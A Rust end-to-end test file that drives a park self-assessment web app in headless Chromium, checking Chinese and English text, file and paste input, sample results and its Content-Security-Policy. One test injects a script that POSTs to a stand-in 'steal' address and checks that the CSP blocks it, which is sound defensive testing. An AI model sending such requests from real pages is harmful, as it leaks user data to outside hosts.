//! End-to-end tests: the built site in headless Chromium, driven through the real page.
//!
//! Run with `cargo test --features e2e --test e2e` (`./dev test` does this after `trunk build`).

mod support;

use support::{Browser, fixture};

#[tokio::test]
async fn start_screen_renders_in_chinese() {
    let browser = Browser::open_app("/").await;

    assert_eq!(browser.text("h1").await, "园区自评");
    assert_eq!(browser.text("#try-sample").await, "用示例数据试一试");
    assert_eq!(
        browser.text(".privacy").await,
        "数据只在您的浏览器中计算，不会上传"
    );
    assert!(
        browser
            .text("label[for=file-input]")
            .await
            .contains("选择文件")
    );
    let lang = browser.js("return document.documentElement.lang").await;
    assert_eq!(lang, "zh-CN");
    browser.screenshot("start-1280").await;
    browser.close().await;
}

#[tokio::test]
async fn language_toggle_switches_to_english_and_back() {
    let browser = Browser::open_app("/").await;

    browser.click(".lang-toggle").await;
    browser
        .wait_for_text("#try-sample", "Try the sample data")
        .await;
    assert_eq!(
        browser.js("return document.documentElement.lang").await,
        "en"
    );
    browser.click(".lang-toggle").await;
    browser
        .wait_for_text("#try-sample", "用示例数据试一试")
        .await;
    browser.close().await;
}

#[tokio::test]
async fn a_file_set_on_the_real_input_is_read() {
    let browser = Browser::open_app("/").await;

    browser.choose_file(&fixture("minimal.csv")).await;
    browser.wait_for_text("#data-summary", "minimal.csv").await;
    browser.close().await;
}

/// The site works from a sub-path, loads nothing from another origin, and its
/// Content-Security-Policy refuses to send data anywhere else.
#[tokio::test]
async fn works_from_a_sub_path_under_the_csp_and_sends_nothing_away() {
    let browser = Browser::open_app("/parkcheck/").await;
    assert_eq!(browser.text("#try-sample").await, "用示例数据试一试");

    let foreign = browser
        .js("return performance.getEntriesByType('resource').map(e => e.name).filter(u => !u.startsWith(location.origin))")
        .await;
    assert_eq!(
        foreign,
        serde_json::json!([]),
        "resources from another origin"
    );

    // A fetch to another origin must be blocked by connect-src, with a CSP violation report;
    // a same-origin fetch must still work.
    let outcome = browser
        .js_async(
            r#"const done = arguments[0];
            let violation = null;
            document.addEventListener('securitypolicyviolation', e => { violation = e.effectiveDirective; });
            fetch('http://192.0.2.1/steal', { method: 'POST', body: 'x' })
              .then(() => 'sent', () => 'blocked')
              .then(async external => {
                const own = await fetch('index.html').then(r => r.ok ? 'ok' : 'http ' + r.status, () => 'failed');
                setTimeout(() => done({ external, own, violation }), 50);
              });"#,
        )
        .await;
    assert_eq!(outcome["external"], "blocked");
    assert_eq!(outcome["violation"], "connect-src");
    assert_eq!(outcome["own"], "ok");

    let csp = browser
        .js("return document.querySelector('meta[http-equiv=Content-Security-Policy]').content")
        .await;
    let csp = csp.as_str().unwrap_or_default();
    assert!(csp.contains("connect-src 'self'"), "{csp}");
    assert!(!csp.contains("unsafe-inline"), "{csp}");
    browser.close().await;
}

/// The sample button shows the DOMAIN §3 worked example: the park scorecard and the ranking.
#[tokio::test]
async fn the_sample_button_shows_the_worked_example() {
    let browser = Browser::open_app("/").await;

    browser.click("#try-sample").await;
    browser.wait_for_text(".results-title", "2023").await;
    assert_eq!(browser.text("#card-C1 .observed").await, "88.07%");
    assert_eq!(browser.text("#card-C2 .observed").await, "18.01%");
    assert!(
        browser
            .text("#card-C2 .sentence")
            .await
            .contains("1.75 亿元")
    );
    assert_eq!(browser.text("#card-C4 .observed").await, "11.80%");
    let first = browser.text("#enterprise-table tbody tr:first-child").await;
    assert!(
        first.contains("雅安锂电新材料有限公司") && first.contains("184.05"),
        "{first}"
    );
    browser.screenshot("sample-1280").await;
    browser
        .client
        .set_window_size(375, 800)
        .await
        .expect("narrow window");
    browser.screenshot("sample-375").await;
    browser
        .client
        .set_window_size(1280, 900)
        .await
        .expect("wide window");

    // The year selector re-evaluates an earlier year.
    browser.click(".year-selector .year:last-of-type").await;
    browser.wait_for_text(".results-title", "2021").await;
    browser.close().await;
}

/// A GBK CSV with a title row, a filler line and a unit line goes through the real file input.
#[tokio::test]
async fn a_gbk_csv_with_title_rows_is_evaluated() {
    let browser = Browser::open_app("/").await;

    browser.choose_file(&fixture("park-2023-gbk.csv")).await;
    browser.wait_for_text(".results-title", "2023").await;
    assert_eq!(browser.text("#card-C1 .observed").await, "88.07%");
    let first = browser.text("#enterprise-table tbody tr:first-child").await;
    assert!(
        first.contains("雅安锂电新材料有限公司") && first.contains("184.05"),
        "{first}"
    );
    assert!(
        browser
            .text("#data-summary")
            .await
            .contains("park-2023-gbk.csv")
    );
    browser.click(".data-check summary").await;
    browser.screenshot("gbk-1280").await;
    browser
        .client
        .set_window_size(375, 800)
        .await
        .expect("narrow window");
    browser.screenshot("gbk-375").await;
    browser.close().await;
}

/// A file that is not a spreadsheet gives a clear message and the page keeps working.
#[tokio::test]
async fn a_broken_file_gives_a_message_and_the_page_keeps_working() {
    let browser = Browser::open_app("/").await;

    browser
        .choose_file(&fixture("not-a-spreadsheet.xlsx"))
        .await;
    let message = browser
        .wait_for_text("[role=alert]", "not-a-spreadsheet.xlsx")
        .await;
    assert!(
        message
            .chars()
            .any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c)),
        "message in Chinese: {message}"
    );
    browser.click("#try-sample").await;
    browser.wait_for_text(".results-title", "2023").await;
    browser.close().await;
}

/// Cells pasted from a spreadsheet (tab-separated) are read like a file.
#[tokio::test]
async fn pasted_cells_are_evaluated() {
    let browser = Browser::open_app("/").await;

    browser.click(".paste summary").await;
    // A paste puts the whole tab-separated text in the box at once (typing a tab would move the
    // focus instead), so the test sets the value as a paste does.
    browser.wait_for("#paste-area").await;
    browser
        .js(r#"document.querySelector('#paste-area').value =
            '企业名称\t用地面积（亩）\t营业收入（万元）\t实缴税金（万元）\t年度\n' +
            '甲公司\t10\t3000\t80\t2023\n乙公司\t20\t2000\t60\t2023\n'; return true"#)
        .await;
    browser.click("#read-paste").await;
    browser.wait_for_text(".results-title", "2023").await;
    browser.wait_for_text("#class-summary", "2").await;
    let first = browser.text("#enterprise-table tbody tr:first-child").await;
    assert!(first.contains("甲公司"), "{first}");
    browser.close().await;
}
